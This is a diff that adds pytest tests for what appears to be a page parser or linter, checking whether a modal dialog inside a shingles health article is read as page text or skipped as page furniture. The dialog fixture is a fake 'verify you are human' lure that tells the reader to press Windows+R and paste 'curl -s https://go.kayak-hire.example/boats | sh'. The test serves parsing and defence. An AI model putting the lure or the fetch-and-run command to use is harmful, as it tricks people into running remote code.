@@ -134,3 +134,43 @@ def test_a_site_written_twice_in_a_pasted_newsletter_is_not_named(sponsor, url):
              f"Manage your subscription: {home}/newsletter/preferences?u=4")
     text = ARTICLE.format(block=block).replace("# ", "")
     assert any(f.code == "LM101" and url.split("/")[2] in f.message for f in lint_text(text, path="a.txt"))
+
+
+DIALOG = ('<div class="challenge-box" role="dialog" aria-modal="true"><h4>Verify you are human</h4><p><label><input '
+          'type="checkbox"> I am not a robot</label></p><ol><li>Press Windows + R on your keyboard</li><li>Press Ctrl + V '
+          'to paste the verification code</li><li>Press Enter to finish the check</li><li>Wait for the page to '
+          'reload on its own before you close it</li></ol><p><code>curl -s https://go.kayak-hire.example/boats | sh</code></p><p><small>If '
+          'the check fails, continue on <a href="https://www.kayak-hire-lakes.example/tours">'
+          'www.kayak-hire-lakes.example/tours</a></small></p></div>')
+
+
+PROSE = ["Shingles is a painful rash caused by the chickenpox virus waking up in the nerves after many years.",
+         "Dr Okafor of Kelvedon Hospital treats shingles with antiviral tablets started within three days.",
+         "The rash usually crusts over within ten days, though the nerve pain can last for months in older adults.",
+         "The shingles vaccine halves the risk of the rash and of the nerve pain that can follow it.",
+         "People over 70 are offered the vaccine by their doctor, in two doses given two months apart."]
+
+
+def _page(middle: str) -> str:
+    paragraphs = [f"<p>{sentence} {sentence}</p>" for sentence in PROSE]
+    return ("<html><body><header><a href='/'>Home</a></header><article><h1>Shingles in older adults</h1>"
+            + "".join(paragraphs[:3]) + middle + "".join(paragraphs[3:]) + "</article><footer><a href='/about'>"
+            "About us</a></footer></body></html>")
+
+
+def test_a_dialog_between_paragraphs_is_read_as_the_text_is():
+    doc = _doc(_page(DIALOG), "html")
+    assert any("Verify you are human" in block.text for block in doc.blocks)
+    assert "kayak-hire-lakes.example" in {link.domain.removeprefix("www.") for link in doc.links}
+
+
+@pytest.mark.parametrize("page", [
+    # (longer than a small box of one site off, which is read whatever its name: `_one_site_off`)
+    # a site's own modal at the page's end, a closed <dialog>, one hidden from every reader: not read
+    _page("") .replace("</article>", "</article>" + DIALOG),
+    _page(DIALOG.replace('<div class="challenge-box" role="dialog"', '<dialog').replace("</div>", "</dialog>")),
+    _page(DIALOG.replace('aria-modal="true"', 'aria-hidden="true"')),
+])
+def test_a_dialog_elsewhere_is_still_furniture(page):
+    doc = _doc(page, "html")
+    assert not any("Verify you are human" in block.text for block in doc.blocks)
